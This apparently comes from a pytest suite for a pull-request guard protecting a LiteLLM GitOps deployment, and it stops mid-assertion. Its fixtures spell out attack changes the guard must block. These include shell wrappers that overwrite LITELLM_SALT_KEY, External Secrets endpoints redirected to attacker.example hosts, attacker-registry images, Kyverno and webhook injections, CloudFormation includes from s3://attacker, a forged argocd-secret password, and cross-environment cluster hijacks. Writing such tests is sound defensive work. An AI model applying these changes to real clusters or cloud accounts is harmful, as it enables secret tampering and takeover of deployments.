"""The guard's allowlist (generator/guard/allowlist.py over harmless.yaml), as a pull request author
would test it: each attack route of issue 19 and each routine change is a base/head pair a pull
request could produce, with the verdict it must get.

The LiteLLM chart's objects (tests/testdata/guard/dataflow/litellm-chart.yaml, rendered by
`helm template` with dev's values) sit in a synced folder of the real rendered tree, as the
hydrated applied state holds them (test_guard_dataflow.py does the same)."""

from __future__ import annotations

import copy
import subprocess
from pathlib import Path
from typing import Any, Callable

import pytest
import yaml

from generator.guard import allowlist
from guard_build import ENV, Rendered
from test_guard import approve_many, categories, guard, run_cli
from test_guard_dataflow import HYDRATED, _docs, container, find
from test_guard_real import _with_config, real, render_all  # noqa: F401  (fixture `real`)

BLOCKED, REFUSED, UNLISTED = "reaches-litellm", "refused", "unlisted"
ESO_DEPLOYMENT = "manifests/secret-store/zz-eso-controller.yaml"


def _eso_controller() -> dict[str, Any]:
    """The External Secrets controller as its chart renders it (the fields that matter here)."""
    return {"apiVersion": "apps/v1", "kind": "Deployment",
            "metadata": {"name": "external-secrets", "namespace": "external-secrets"},
            "spec": {"replicas": 1, "selector": {"matchLabels": {"app.kubernetes.io/name": "external-secrets"}},
                     "template": {"metadata": {"labels": {"app.kubernetes.io/name": "external-secrets"}},
                                  "spec": {"serviceAccountName": "external-secrets", "containers": [
                                      {"name": "external-secrets", "image": "oci.external-secrets.io/external-secrets/external-secrets:v2.9.0",
                                       "args": ["--concurrent=1"]}]}}}}


@pytest.fixture
def hydrated(real: Rendered) -> Rendered:  # noqa: F811
    tree = real.copy()
    tree.envs[ENV][HYDRATED] = _docs("litellm-chart.yaml")
    tree.envs[ENV][ESO_DEPLOYMENT] = _eso_controller()
    return tree


def _edit(tree: Rendered, change: Callable[[Rendered, list[dict[str, Any]]], Any]) -> Rendered:
    head = tree.copy()
    change(head, head.envs[ENV][HYDRATED])
    return head


def _config(docs: list[dict[str, Any]]) -> dict[str, Any]:
    return find(docs, "ConfigMap", "litellm-config")


def _set_config(docs: list[dict[str, Any]], edit: Callable[[dict[str, Any]], Any]) -> None:
    config = yaml.safe_load(_config(docs)["data"]["config.yaml"])
    edit(config)
    _config(docs)["data"]["config.yaml"] = yaml.safe_dump(config, sort_keys=False)


def _fields(report: dict[str, Any], category: str) -> list[str]:
    return [f"{f['object']}: {f['field']}" for f in report["findings"] if f["category"] == category]


# --- attacks: blocked whatever the approvals ---------------------------------------------------

WRAPPER = "export LITELLM_SALT_KEY=attacker; exec litellm --port 4000 --config /etc/litellm/config.yaml"

ATTACKS: dict[str, tuple[str, Callable[[Rendered, list[dict[str, Any]]], Any]]] = {
    "shell wrapper in command": ("spec.template.spec.containers[litellm].command", lambda t, d: container(d).update(
        {"command": ["/bin/sh", "-c", WRAPPER]})),
    "python -c in args": ("spec.template.spec.containers[litellm].args", lambda t, d: container(d).update(
        {"args": ["-c", "import os; os.environ['LITELLM_SALT_KEY']='x'; import litellm.proxy.proxy_cli"]})),
    "migration Job command": ("spec.template.spec.containers[prisma-migrations].command", lambda t, d: container(
        d, "Job", "litellm-migrations").update({"command": ["/bin/sh", "-c", WRAPPER]})),
    "config include": ("data.config.yaml::.include", lambda t, d: _set_config(d, lambda c: c.__setitem__(
        "include", ["/etc/litellm/extra.yaml"]))),
    "mounted file swapped": ("spec.template.spec.volumes", lambda t, d: find(d, "Deployment", "litellm")["spec"]["template"]["spec"][
        "volumes"].append({"name": "extra", "configMap": {"name": "attacker-config"}})),
    "External Secrets endpoint": ("spec.template.spec.containers[external-secrets].env", lambda t, d: t.envs[ENV][ESO_DEPLOYMENT][
        "spec"]["template"]["spec"]["containers"][0].setdefault("env", []).append(
        {"name": "AWS_SECRETSMANAGER_ENDPOINT", "value": "https://secrets.attacker.example"})),
    "External Secrets STS endpoint": ("spec.template.spec.containers[external-secrets].env", lambda t, d: t.envs[ENV][ESO_DEPLOYMENT][
        "spec"]["template"]["spec"]["containers"][0].setdefault("env", []).append(
        {"name": "AWS_STS_ENDPOINT", "value": "https://sts.attacker.example"})),
    "second Deployment with LiteLLM's labels": ("Deployment litellm/litellm-shadow", lambda t, d: d.append({
        **copy.deepcopy(find(d, "Deployment", "litellm")), "metadata": {"name": "litellm-shadow", "namespace": "litellm"}})
        or _shadow_image(d)),
    "namespaced Kyverno Policy": ("Policy litellm/inject", lambda t, d: d.append({
        "apiVersion": "kyverno.io/v1", "kind": "Policy", "metadata": {"name": "inject", "namespace": "litellm"},
        "spec": {"rules": [{"name": "salt", "match": {"any": [{"resources": {"kinds": ["Pod"]}}]},
                            "mutate": {"patchStrategicMerge": {"spec": {"containers": [
                                {"(name)": "litellm", "env": [{"name": "LITELLM_SALT_KEY", "value": "x"}]}]}}}}]}})),
    "mutating webhook": ("MutatingWebhookConfiguration inject", lambda t, d: d.append({
        "apiVersion": "admissionregistration.k8s.io/v1", "kind": "MutatingWebhookConfiguration",
        "metadata": {"name": "inject"}, "webhooks": []})),
    "argocd-secret in a List beside a repository Secret": ("Secret argocd/argocd-secret", lambda t, d: t.add("apps/99-list.yaml", {
        "apiVersion": "v1", "kind": "List", "items": [
            {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "argocd-secret", "namespace": "argocd"},
             "stringData": {"admin.password": "$2a$10$attacker"}}]})),
}


def _shadow_image(docs: list[dict[str, Any]]) -> None:
    shadow = find(docs, "Deployment", "litellm-shadow")
    shadow["spec"]["template"]["spec"]["containers"][0]["image"] = "ghcr.io/attacker/gateway:1"


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_attacks_reaching_litellm_are_blocked(name: str, hydrated: Rendered, tmp_path: Path, github) -> None:
    where, change = ATTACKS[name]
    approve_many(github)
    code, report = guard(tmp_path, hydrated, _edit(hydrated, change))
    assert code == 1 and BLOCKED in categories(report), report
    assert any(where in line for line in _fields(report, BLOCKED)), (where, _fields(report, BLOCKED))
    assert github.requests == []  # blocked: GitHub is not asked


def _secrets_template(t: Rendered) -> dict[str, Any]:
    return t.template_of(t.cfn_secret("LITELLM_SALT_KEY")[0])


def _scheduler(t: Rendered) -> None:
    name = t.cfn_secret("LITELLM_SALT_KEY")[1]["Properties"]["Name"]
    _secrets_template(t)["Resources"]["Rekey"] = {"Type": "AWS::Scheduler::Schedule", "Properties": {
        "ScheduleExpression": "rate(1 day)", "FlexibleTimeWindow": {"Mode": "OFF"},
        "Target": {"Arn": "arn:aws:scheduler:::aws-sdk:secretsmanager:putSecretValue",
                   "RoleArn": "arn:aws:iam::111122223333:role/scheduler",
                   "Input": f'{{"SecretId": "{name}", "SecretString": "attacker"}}'}}}


def _computed_name(t: Rendered) -> None:
    _secrets_template(t)["Resources"]["Rekey"] = {"Type": "AWS::Scheduler::Schedule", "Properties": {
        "ScheduleExpression": "rate(1 day)", "FlexibleTimeWindow": {"Mode": "OFF"},
        "Target": {"Arn": "arn:aws:scheduler:::aws-sdk:secretsmanager:putSecretValue",
                   "RoleArn": "arn:aws:iam::111122223333:role/scheduler",
                   "Input": {"Fn::Join": ["", ['{"SecretId": "', "prod/litellm/sa", 'lt-key", "SecretString": "x"}']]}}}}


CFN_ATTACKS: dict[str, tuple[str, Callable[[Rendered], Any]]] = {
    "Scheduler putSecretValue on the salt": (BLOCKED, _scheduler),
    "Scheduler with a computed secret name": (BLOCKED, _computed_name),
    "Fn::Transform in the secrets stack": (REFUSED, lambda t: t.cfn_secret("LITELLM_SALT_KEY")[1]["Properties"].__setitem__(
        "Fn::Transform", {"Name": "AWS::Include", "Parameters": {"Location": "s3://attacker/snippet.yaml"}})),
    "AWS::Include in another stack": (REFUSED, lambda t: t.instance()[2].__setitem__("Conditions", {
        "Fn::Transform": {"Name": "AWS::Include", "Parameters": {"Location": "s3://attacker/c.yaml"}}})),
    "Transform at the top of a stack": (REFUSED, lambda t: _secrets_template(t).__setitem__("Transform", "Attacker::Macro")),
}


@pytest.mark.parametrize("name", sorted(CFN_ATTACKS))
def test_cloudformation_attacks_are_refused(name: str, real: Rendered, tmp_path: Path, github) -> None:  # noqa: F811
    category, change = CFN_ATTACKS[name]
    approve_many(github)
    code, report = guard(tmp_path, real, real.edit(change))
    assert code == 1 and category in categories(report), report


def test_an_unknown_type_naming_another_secret_needs_two_approvals(real: Rendered, tmp_path: Path, github) -> None:  # noqa: F811
    def change(t: Rendered) -> None:
        name = t.cfn_secret("LITELLM_MASTER_KEY")[1]["Properties"]["Name"]
        _scheduler(t)
        _secrets_template(t)["Resources"]["Rekey"]["Properties"]["Target"]["Input"] = f'{{"SecretId": "{name}"}}'
    head = real.edit(change)
    code, report = guard(tmp_path, real, head)
    assert code == 1 and categories(report) == {UNLISTED}, report
    github.review("bob")
    github.review("carol")
    assert guard(tmp_path, real, head)[0] == 0


def test_a_policy_that_can_write_the_salt_secret_is_blocked(real: Rendered, tmp_path: Path) -> None:  # noqa: F811
    def change(t: Rendered) -> None:
        _secrets_template(t)["Resources"]["Writer"] = {"Type": "AWS::IAM::ManagedPolicy", "Properties": {"PolicyDocument": {
            "Statement": [{"Effect": "Allow", "Action": ["secretsmanager:PutSecretValue"],
                           "Resource": {"Fn::Sub": "arn:${AWS::Partition}:secretsmanager:eu-west-1:1:secret:prod/litellm/salt-key-??????"}}]}}}
    code, report = guard(tmp_path, real, real.edit(change))
    assert code == 1 and BLOCKED in categories(report), report


# --- two approvals: supply chain and data loss -------------------------------------------------

def test_litellm_image_from_another_repository_needs_two_approvals(hydrated: Rendered, tmp_path: Path, github) -> None:
    def change(t: Rendered, d: list[dict[str, Any]]) -> None:
        for kind, name in (("Deployment", "litellm"), ("Job", "litellm-migrations")):
            container(d, kind, name)["image"] = "docker.io/attacker/litellm-database:main-v1.83.10-stable"
    head = _edit(hydrated, change)
    code, report = guard(tmp_path, hydrated, head)
    assert code == 1 and categories(report) == {"image-repository"}, report
    github.review("bob")
    github.review("carol")
    assert guard(tmp_path, hydrated, head)[0] == 0


def test_a_pruned_claim_needs_two_approvals(hydrated: Rendered, tmp_path: Path, github) -> None:
    claim = {"apiVersion": "v1", "kind": "PersistentVolumeClaim", "metadata": {"name": "open-webui", "namespace": "litellm"},
             "spec": {"accessModes": ["ReadWriteOnce"], "resources": {"requests": {"storage": "2Gi"}}}}
    base = hydrated.copy()
    base.envs[ENV][HYDRATED].append(claim)
    code, report = guard(tmp_path, base, hydrated)
    assert code == 1 and categories(report) == {"data-loss"}, report


# --- named refusals: submodules -----------------------------------------------------------------

def _git(repo: Path, *args: str) -> None:
    subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@example.org", "-C", str(repo), *args],
                   check=True, capture_output=True)


def _commit(root: Path) -> Path:
    _git(root, "init", "-q", "-b", "main")
    _git(root, "add", "-A")
    _git(root, "commit", "-q", "-m", "tree")
    return root


def test_a_gitlink_where_argo_cd_reads_is_refused(tmp_path: Path, github) -> None:
    base = Rendered.minimal()
    b = _commit(base.write(tmp_path / "base"))
    h = _commit(base.write(tmp_path / "head"))
    # The synced folder becomes a submodule: actions/checkout leaves it empty, Argo CD fetches it.
    _git(h, "rm", "-q", "-r", "--cached", "rendered/prod/manifests/secret-store")
    _git(h, "update-index", "--add", "--cacheinfo", f"160000,{'1' * 40},rendered/prod/manifests/secret-store")
    _git(h, "commit", "-q", "-m", "submodule")
    for path in (h / "rendered/prod/manifests/secret-store").iterdir():
        path.unlink()
    approve_many(github)
    code, out, _ = run_cli("guard", "--base", b, "--head", h, "--json")
    assert code == 1 and '"refused"' in out and "rendered/prod/manifests/secret-store" in out, out


def test_a_gitmodules_file_is_refused(tmp_path: Path) -> None:
    base = Rendered.minimal()
    b, h = base.write(tmp_path / "base"), base.write(tmp_path / "head")
    (h / ".gitmodules").write_text('[submodule "x"]\n\tpath = rendered/prod/extra\n\turl = https://example.org/x.git\n')
    code, out, _ = run_cli("guard", "--base", b, "--head", h, "--json")
    assert code == 1 and ".gitmodules" in out, out


@pytest.mark.parametrize("committed", [True, False], ids=["committed", "untracked"])
def test_a_gitmodules_file_under_rendered_of_a_git_checkout_is_refused(committed: bool, tmp_path: Path) -> None:
    """In a git checkout whose rendered/ git vouches for, HEAD's listing is searched, not the disk;
    a `.gitmodules` git does not know (untracked) takes that vouch away, so the disk is searched."""
    base = Rendered.minimal()
    b, h = _commit(base.write(tmp_path / "base")), _commit(base.write(tmp_path / "head"))
    (h / "rendered/prod/.gitmodules").write_text('[submodule "x"]\n\tpath = extra\n\turl = https://example.org/x.git\n')
    if committed:
        _git(h, "add", "-A")
        _git(h, "commit", "-q", "-m", "gitmodules")
    code, out, _ = run_cli("guard", "--base", b, "--head", h, "--json")
    assert code == 1 and '"refused"' in out and "rendered/prod/.gitmodules" in out, out


# --- approvals: the pusher of the last commit does not count -----------------------------------

def test_the_pusher_of_the_head_commit_does_not_approve(tmp_path: Path, github) -> None:
    from test_guard import TWO_APPROVAL_CHANGES
    github.pushes[0]["actor"] = {"login": "mallory"}
    github.review("mallory")
    github.review("bob")
    base = Rendered.minimal()
    code, report = guard(tmp_path, base, base.edit(TWO_APPROVAL_CHANGES["master-key"]))
    assert code == 1 and report["approvals"]["valid"] == ["bob"], report
    assert ("mallory", "pushed or authored the most recent commit") in [
        (i["login"], i["reason"]) for i in report["approvals"]["ignored"]]
    github.review("carol")
    assert guard(tmp_path, base, base.edit(TWO_APPROVAL_CHANGES["master-key"]))[0] == 0


def test_the_committer_of_the_head_commit_does_not_approve(tmp_path: Path, github) -> None:
    from github_fake import HEAD_SHA
    from test_guard import TWO_APPROVAL_CHANGES
    github.commits[HEAD_SHA] = ("alice", "mallory")
    github.review("mallory")
    github.review("bob")
    base = Rendered.minimal()
    code, report = guard(tmp_path, base, base.edit(TWO_APPROVAL_CHANGES["master-key"]))
    assert code == 1 and report["approvals"]["valid"] == ["bob"], report


# --- routine work: never blocked ----------------------------------------------------------------

ROUTINE: dict[str, Callable[[Rendered, list[dict[str, Any]]], Any]] = {
    "replicas": lambda t, d: find(d, "Deployment", "litellm")["spec"].__setitem__("replicas", 5),
    "resources": lambda t, d: container(d).__setitem__("resources", {"requests": {"cpu": "2", "memory": "4Gi"}}),
    "probe timing": lambda t, d: container(d).setdefault("readinessProbe", {}).__setitem__("periodSeconds", 30),
    "image tag within the repository": lambda t, d: [container(d, k, n).__setitem__(
        "image", "ghcr.io/berriai/litellm-database:main-v1.83.11-stable")
        for k, n in (("Deployment", "litellm"), ("Job", "litellm-migrations"))],
    "a model added": lambda t, d: _set_config(d, lambda c: c.setdefault("model_list", []).append(
        {"model_name": "claude-haiku", "litellm_params": {"model": "bedrock/eu.anthropic.claude-3-5-haiku-20241022-v1:0"}})),
    "otel callback turned on": lambda t, d: _set_config(d, lambda c: c.setdefault("litellm_settings", {}).setdefault(
        "callbacks", []).append("otel")),
    "securityContext hardening": lambda t, d: container(d).__setitem__("securityContext", {
        "runAsNonRoot": True, "allowPrivilegeEscalation": False, "capabilities": {"drop": ["ALL"]}}),
    "PodDisruptionBudget": lambda t, d: d.append({"apiVersion": "policy/v1", "kind": "PodDisruptionBudget",
                                                  "metadata": {"name": "litellm", "namespace": "litellm"},
                                                  "spec": {"minAvailable": 1, "selector": {"matchLabels": {
                                                      "app.kubernetes.io/name": "litellm"}}}}),
}


@pytest.mark.parametrize("name", sorted(ROUTINE))
def test_routine_changes_to_litellm_pass_silently(name: str, hydrated: Rendered, tmp_path: Path, github) -> None:
    code, report = guard(tmp_path, hydrated, _edit(hydrated, ROUTINE[name]))
    assert code == 0 and report["findings"] == [], report
    assert github.requests == []


def test_a_reloader_annotation_on_litellm_needs_approvals_not_a_block(hydrated: Rendered, tmp_path: Path) -> None:
    head = _edit(hydrated, lambda t, d: find(d, "Deployment", "litellm")["metadata"].setdefault("annotations", {}).__setitem__(
        "reloader.stakater.com/auto", "true"))
    code, report = guard(tmp_path, hydrated, head)
    assert code == 1 and categories(report) == {UNLISTED}, report


def test_an_unlisted_litellm_setting_is_blocked_not_silently_allowed(hydrated: Rendered, tmp_path: Path) -> None:
    head = _edit(hydrated, lambda t, d: _set_config(d, lambda c: c.setdefault("litellm_settings", {}).setdefault(
        "callbacks", []).append("custom_callbacks.proxy_handler_instance")))
    code, report = guard(tmp_path, hydrated, head)
    assert code == 1 and BLOCKED in categories(report), report


def test_webhook_names_in_an_allow_list_are_not_webhooks(real: Rendered, tmp_path: Path, github) -> None:  # noqa: F811
    head = real.edit(lambda t: t.obj("AppProject", "litellm")["spec"].setdefault("clusterResourceWhitelist", []).append(
        {"group": "admissionregistration.k8s.io", "kind": "MutatingWebhookConfiguration"}))
    code, report = guard(tmp_path, real, head)
    assert code == 1 and categories(report) == {"source"}, report


ENVIRONMENT_EDITS: dict[str, Callable[[dict[str, Any]], Any]] = {
    "disable Jaeger": lambda c: c["components"]["jaeger"].__setitem__("state", "disabled"),
    "disable Open WebUI": lambda c: c["components"]["open-webui"].__setitem__("state", "disabled"),
    "disable the dashboards": lambda c: c["components"]["grafana-dashboards"].__setitem__("state", "disabled"),
    "Prometheus retention": lambda c: c["components"]["kube-prometheus-stack"].__setitem__("retention", "30d"),
}


@pytest.mark.parametrize("name", sorted(ENVIRONMENT_EDITS))
@pytest.mark.parametrize("direction", ["forward", "reverse"])
def test_optional_components_are_never_blocked(name: str, direction: str, real: Rendered, tmp_path: Path,  # noqa: F811
                                               github) -> None:
    edited = render_all(lambda e: _with_config(e, ENVIRONMENT_EDITS[name]))
    base, head = (real, edited) if direction == "forward" else (edited, real)
    code, report = guard(tmp_path, base, head)
    assert all(f["policy"] != "blocked" for f in report["findings"]), report
    approve_many(github)
    assert guard(tmp_path, base, head)[0] == 0


def test_every_row_of_the_table_has_a_reason_and_is_documented() -> None:
    rows = allowlist.rows()
    assert len({r.id for r in rows}) == len(rows)
    assert all(r.reason.strip() and r.kinds and r.paths for r in rows)
    docs = (Path(__file__).resolve().parent.parent / "docs" / "guard.md").read_text(encoding="utf-8")
    assert [r.id for r in rows if f"| `{r.id}` |" not in docs] == []


def test_date_typed_tag_values_are_allowed_and_an_integer_store_key_is_bad_input(real: Rendered, tmp_path: Path) -> None:  # noqa: F811
    import datetime
    head = real.edit(lambda t: t.cfn_secret("LITELLM_SALT_KEY")[1]["Properties"].setdefault("Tags", []).append(
        {"Key": "rotated", "Value": datetime.date(2026, 12, 4)}))
    code, report = guard(tmp_path, real, head)
    assert code == 0, report
    bad = real.edit(lambda t: t.entry("LITELLM_SALT_KEY", es=t.obj("ExternalSecret", "litellm-secrets")["metadata"]["name"])[
        "remoteRef"].__setitem__("key", 12345))
    code, out, err = run_cli("guard", "--base", real.write(tmp_path / "b2"), "--head", bad.write(tmp_path / "h2"))
    assert code in (1, 2) and code != 70, err


# --- loose ends: nothing printed, nothing escapes the Markdown ---------------------------------

@pytest.mark.parametrize("value", ["CORRECTHORSEBATTERYSTAPLE", "postgresql://litellm:pa/ss/word@db.internal:5432/litellm"])
def test_master_key_and_database_url_values_are_never_printed(value: str, tmp_path: Path) -> None:
    base = Rendered.minimal()
    head = base.edit(lambda t: t.values("litellm").update({"masterkey": value, "envVars": {"DATABASE_URL": value}}))
    b, h = base.write(tmp_path / "b"), head.write(tmp_path / "h")
    md = tmp_path / "guard.md"
    for args in (("--json",), ("--markdown", md), ()):
        code, out, err = run_cli("guard", "--base", b, "--head", h, *args)
        assert code == 1
        for text in (out, err, md.read_text() if md.exists() else ""):
            assert value not in text and "pa/ss/word" not in text and "HORSE" not in text, text


def test_the_markdown_escapes_file_names(tmp_path: Path) -> None:
    base = Rendered.minimal()
    head = base.copy()
    name = "manifests/secret-store/x```\n# owned~~~~.yaml"
    head.envs[ENV][name] = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "x", "namespace": "litellm"},
                            "data": {"a": "b"}}
    md = tmp_path / "guard.md"
    run_cli("guard", "--base", base.write(tmp_path / "b"), "--head", head.write(tmp_path / "h"), "--markdown", md)
    lines = md.read_text().splitlines()
    assert [line for line in lines if line.startswith("#")] == [lines[0]], lines
    assert not any(line.startswith(("```", "~~~")) for line in lines), lines


def test_bad_input_markdown_fences_outlast_the_message() -> None:
    from generator.guard import report
    text = report.bad_input_markdown("file a~~~~~b.yaml: unparsable\n# heading")
    fence = text.splitlines()[2]
    assert set(fence) == {"~"} and len(fence) > 5 and text.rstrip().endswith(fence)


# --- hub mode: modelled, not refused -------------------------------------------------------------

FLEET = Path(__file__).resolve().parent.parent / "examples" / "hub-fleet"


def _hub_checkout(scratch_repo: Path, where: Path, envs: tuple[str, ...], edit: Callable[[Path], Any] | None = None) -> Path:
    import shutil

    from generator.cli import main
    shutil.copytree(scratch_repo, where)
    for env in envs:
        shutil.copytree(FLEET / env, where / "environments" / env)
    if edit:
        edit(where)
    assert main(["render", "--root", str(where)]) == 0
    return where


def _stage(root: Path) -> None:
    """Move eu-dev to the staging stage. (Promoting to prod also replicates the salt and master keys
    and widens their key's decrypters, secrets.kmsKeyUsers: a key-policy change, blocked like the
    salt.)"""
    path = root / "environments/eu-dev/environment.yaml"
    path.write_text(path.read_text().replace("stage: dev", "stage: staging"))


@pytest.mark.parametrize("name", ["a hub environment's stage", "a hub-managed environment added"])
def test_hub_mode_routine_changes_are_never_blocked(name: str, scratch_repo: Path, tmp_path: Path, github) -> None:
    every = ("eu-dev", "eu-prod", "eu-staging")
    if name == "a hub environment's stage":
        base = _hub_checkout(scratch_repo, tmp_path / "base", every)
        head = _hub_checkout(scratch_repo, tmp_path / "head", every, _stage)
    else:
        base = _hub_checkout(scratch_repo, tmp_path / "base", every[:2])
        head = _hub_checkout(scratch_repo, tmp_path / "head", every)
    code, out, err = run_cli("guard", "--base", base, "--head", head, "--json", "--no-hydrate")
    import json
    report = json.loads(out)
    assert all(f["policy"] != "blocked" for f in report["findings"]), report
    if name == "a hub-managed environment added":  # its root, cluster, projects, namespace: two approvals
        assert categories(report) == {"source"}, report
        assert {f["object"] for f in report["findings"]} == {
            "Application argocd/eu-staging-root", "Secret argocd/cluster-eu-staging", "AppProject argocd/litellm-eu-staging",
            "AppProject argocd/fleet-central-root-eu-staging", "Namespace argocd-eu-staging",
            # the bootstrap names every environment's namespace (application.namespaces): re-applied by hand
            "ConfigMap argocd/argocd-cmd-params-cm"}


def _replace(root: Path, rel: str, old: str, new: str) -> None:
    path = root / rel
    text = path.read_text()
    assert old in text, (rel, old)
    path.write_text(text.replace(old, new))


# Pull requests that edit one environment's (or the hub's) rendered files to reach another
# environment on the hub (generator.fleet: each environment's Applications in its own namespace).
CROSSINGS = {
    # eu-dev's root creating an Application in eu-prod's namespace, under eu-prod's project
    "an Application of eu-dev's files moved into eu-prod's namespace": lambda root: [
        _replace(root, "rendered/eu-dev/apps/13-litellm.yaml", "namespace: argocd-eu-dev", "namespace: argocd-eu-prod"),
        _replace(root, "rendered/eu-dev/apps/13-litellm.yaml", "project: litellm-eu-dev", "project: litellm-eu-prod"),
        _replace(root, "rendered/eu-dev/apps/13-litellm.yaml", "name: eu-dev\n", "name: eu-prod\n")],
    # eu-dev's Application in its own namespace naming eu-prod's project (and so eu-prod's cluster)
    "an Application of eu-dev naming eu-prod's project": lambda root: [
        _replace(root, "rendered/eu-dev/apps/13-litellm.yaml", "project: litellm-eu-dev", "project: litellm-eu-prod"),
        _replace(root, "rendered/eu-dev/apps/13-litellm.yaml", "name: eu-dev\n", "name: eu-prod\n")],
    # eu-prod's project widened to Applications in eu-dev's namespace
    "eu-prod's project admitting eu-dev's namespace": lambda root: _replace(
        root, "rendered/fleet/central/hub/eu-prod/project.yaml", "  - argocd-eu-prod\n", "  - argocd-eu-prod\n  - argocd-eu-*\n"),
    # the hub's ApplicationSet giving every root eu-prod's root project (only the hub's files change)
    "every root run in eu-prod's root project": lambda root: _replace(
        root, "rendered/fleet/central/hub/applicationset.yaml", "project: fleet-central-root-{{.environment}}",
        "project: fleet-central-root-eu-prod"),
    # eu-dev's root project widened to eu-prod's namespace
    "eu-dev's root project reaching eu-prod's namespace": lambda root: _replace(
        root, "rendered/fleet/central/hub/eu-dev/root-project.yaml", "namespace: argocd-eu-dev", "namespace: argocd-*"),
}


@pytest.mark.parametrize("name", sorted(CROSSINGS))
def test_crossing_into_another_environments_namespace_is_blocked(name: str, scratch_repo: Path, tmp_path: Path, github) -> None:
    every = ("eu-dev", "eu-prod", "eu-staging")
    base = _hub_checkout(scratch_repo, tmp_path / "base", every)
    head = _hub_checkout(scratch_repo, tmp_path / "head", every)
    CROSSINGS[name](head)
    approve_many(github)
    code, out, err = run_cli("guard", "--base", base, "--head", head, "--json", "--no-hydrate")
    import json
    report = json.loads(out)
    assert code == 1 and "crosses-environments" in categories(report), report
    crossing = [f for f in report["findings"] if f["category"] == "crosses-environments"]
    assert all(f["policy"] == "blocked" for f in crossing), crossing
    assert github.requests == []  # blocked: the approvals are not even read


# --- hydrated end to end: the real chart, rendered by the real helm ---------------------------

@pytest.mark.parametrize("name", ["command wrapper", "replicas"])
def test_hydrated_values_changes(name: str, scratch_repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """As guard.yml runs it: both checkouts hydrated (helm template of the LiteLLM chart), a change
    to dev's LiteLLM values judged by the objects it renders."""
    import shutil
    monkeypatch.delenv("LITELLM_GITOPS_HYDRATE_CACHE", raising=False)
    base, head = tmp_path / "base", tmp_path / "head"
    shutil.copytree(scratch_repo, base)
    shutil.copytree(scratch_repo, head)
    values = head / "rendered" / "dev" / "values" / "litellm.yaml"
    text = values.read_text()
    if name == "replicas":
        values.write_text(text.replace("replicaCount: 1\n", "replicaCount: 3\n", 1))
    else:
        values.write_text(text + 'command: ["/bin/sh", "-c"]\nargs: ["export LITELLM_SALT_KEY=x; exec litellm --port 4000"]\n')
    code, out, err = run_cli("guard", "--base", base, "--head", head, "--json", "--hydrate-cache", tmp_path / "cache")
    import json
    report = json.loads(out)
    if name == "replicas":
        assert code == 0 and report["findings"] == [], report
    else:
        assert code == 1 and BLOCKED in categories(report), report
        assert any(f["object"] == "Deployment litellm/litellm" and f["field"].startswith(
            "spec.template.spec.containers[litellm].command") for f in report["findings"]), report


# --- Open WebUI's virtual key: a model added end to end, and the key is not the master key -------

def _environment_edit(root: Path, old: str, new: str) -> None:
    path = root / "environments" / "dev" / "environment.yaml"
    text = path.read_text()
    assert old in text, old
    path.write_text(text.replace(old, new, 1))


@pytest.mark.parametrize("name", ["a model added", "Open WebUI's key renamed"])
def test_open_webui_key_changes_end_to_end(name: str, scratch_repo: Path, tmp_path: Path,
                                           monkeypatch: pytest.MonkeyPatch) -> None:
    """Both checkouts rendered and hydrated as guard.yml runs them. A model added reaches Open
    WebUI's registration Job (the models its key may call) and StatefulSet (the digest that reruns
    the hook): routine, silent. Moving Open WebUI's key to another Secrets Manager secret is not the
    master key: never the master-key rule, never blocked."""
    import json
    import shutil

    from generator.cli import main
    monkeypatch.delenv("LITELLM_GITOPS_HYDRATE_CACHE", raising=False)
    base, head = tmp_path / "base", tmp_path / "head"
    shutil.copytree(scratch_repo, base)
    shutil.copytree(scratch_repo, head)
    if name == "a model added":
        _environment_edit(head, "    models:\n", "    models:\n      - name: claude-3-haiku\n"
                                                "        model: us.anthropic.claude-3-haiku-20240307-v1:0\n")
    else:
        _environment_edit(head, "secrets:\n", "secrets:\n  names:\n    openWebuiKey: open-webui/litellm-key-v2\n")
    assert main(["render", "--root", str(head)]) == 0
    code, out, err = run_cli("guard", "--base", base, "--head", head, "--json", "--hydrate-cache", tmp_path / "cache")
    report = json.loads(out)
    if name == "a model added":
        assert code == 0 and report["findings"] == [], report
    else:
        assert "master-key" not in categories(report) and all(f["policy"] != "blocked" for f in report["findings"]), report
        # a new secret in CloudFormation: two approvals as for any secret, not the master key's rule
        assert any(f["object"].startswith("CloudFormation OpenWebuiKeySecret") for f in report["findings"]), report


def _steal_cluster(of: str) -> Callable[[Path], Any]:
    """eu-staging, added with its own name, secrets prefix and OIDC issuer (so `render` accepts it
    as before the check), but `cluster.server` set to another environment's API endpoint."""
    def edit(root: Path) -> None:
        import yaml
        server = yaml.safe_load((root / "environments" / of / "environment.yaml").read_text())["cluster"]["server"]
        path = root / "environments/eu-staging/environment.yaml"
        text = path.read_text()
        mine = yaml.safe_load(text)["cluster"]["server"]
        path.write_text(text.replace(mine, server, 1))
    return edit


def test_a_new_hub_environment_on_another_environment_s_cluster_is_blocked_naming_both(scratch_repo: Path, tmp_path: Path, github) -> None:
    """A PR adds hub environment eu-staging whose cluster Secret registers eu-prod's API server: its
    whole stack would deploy into eu-prod's cluster. Not routine: blocked whatever the approvals,
    naming both environments (the same PR with eu-staging's own server only needs approvals)."""
    import shutil

    from generator import collisions

    base = _hub_checkout(scratch_repo, tmp_path / "base", ("eu-dev", "eu-prod"))
    head = tmp_path / "head"
    shutil.copytree(scratch_repo, head)
    for env in ("eu-dev", "eu-prod", "eu-staging"):
        shutil.copytree(FLEET / env, head / "environments" / env)
    _steal_cluster("eu-prod")(head)
    assert run_cli("render", "--root", head)[0] == 2  # the generator refuses it now: render it as the old one did
    original = collisions.UNIQUE
    collisions.UNIQUE = tuple(u for u in original if u[1] != ("cluster", "server"))
    try:
        assert run_cli("render", "--root", head)[0] == 0
    finally:
        collisions.UNIQUE = original
    for login in ("r1", "r2", "r3"):
        github.review(login)
    code, out, err = run_cli("guard", "--base", base, "--head", head, "--json", "--no-hydrate")
    import json
    report = json.loads(out)
    assert code == 1 and report["verdict"] == "refused", report
    hits = [f for f in report["findings"] if "is the cluster of environment eu-prod" in f["field"]]
    assert hits and all(f["policy"] == "blocked" and "environment eu-staging's Applications" in f["field"]
                        and f["object"] == "Secret argocd/cluster-eu-staging" for f in hits), report
    import yaml
    server = yaml.safe_load((FLEET / "eu-prod" / "environment.yaml").read_text())["cluster"]["server"]
    assert {f["field"].split(" (", 1)[1].split(" is the")[0] for f in hits} == {
